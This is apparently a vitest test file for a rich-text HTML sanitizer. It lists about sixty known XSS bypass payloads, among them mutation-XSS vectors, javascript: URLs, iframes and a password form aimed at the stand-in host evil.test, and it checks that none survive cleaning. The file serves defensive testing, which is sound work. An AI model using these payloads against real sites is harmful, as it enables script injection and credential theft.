import { describe, expect, it } from 'vitest'
import { sanitizeRichText } from './rich-text.ts'

/** Ways around sanitizers that have worked somewhere once. */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/x.webp" onload=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.test/x.png">',
  '<img src="https://evil.test/x.png">',
  '<img srcset="https://evil.test/x.png 1x" src="/media/x.webp">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="x" onclick=alert(1)>x</a>',
  '<a href="https://a.example" target="_top">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="color:#fff;background-image:url(//evil.test)">x</p>',
  '<style>@import "//evil.test"</style>',
  '<link rel=stylesheet href=//evil.test>',
  '<base href=//evil.test>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe src="//www.youtube-nocookie.com.evil.test/embed/x"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com@evil.test/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com/embed/x" onload=alert(1)></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="//evil.test">',
  '<form action="//evil.test"><input name=password><button>Log in</button></form>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<<img src=x onerror=alert(1)//<',
  '<img src=`x`onerror=alert(1)>',
  '<p\u0000onclick=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p id="location" name="cookie" class="admin">x</p>',
]

/** What is left as tags and attributes; text between them can do no harm. */
const tagsOf = (html: string) => html.match(/<[^>]*>/g)?.join('') ?? ''

describe('formatted text', () => {
  it.each(payloads)('keeps nothing that acts of %s', payload => {
    const clean = sanitizeRichText(`before ${payload} after`)
    const tags = tagsOf(clean)
    expect(tags).not.toMatch(
      /\son\w+\s*=|script|svg|math|style>|srcdoc|srcset|<(form|input|object|embed|base|meta|link)/i,
    )
    expect(tags).not.toMatch(/(href|src)="?\s*(javascript|vbscript|data):/i)
    expect(tags).not.toMatch(/(src|action)="?[^">]*evil\.test/i)
    expect(tags).not.toMatch(/href="\/\/|url\(|expression|position|\b(id|name|class)=/i)
    expect(sanitizeRichText(clean), 'cleaning twice changes nothing').toBe(clean)
  })

  it('keeps what our editor writes', () => {
    const written =
      '<h2>Title</h2><p style="text-align:center">A <strong>bold</strong> <a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">link</a></p><ul><li>one</li></ul><img src="/media/2026/01/x.webp" alt="x" /><iframe src="https://www.youtube-nocookie.com/embed/x" title="Film"></iframe>'
    expect(sanitizeRichText(written)).toBe(written)
  })
})
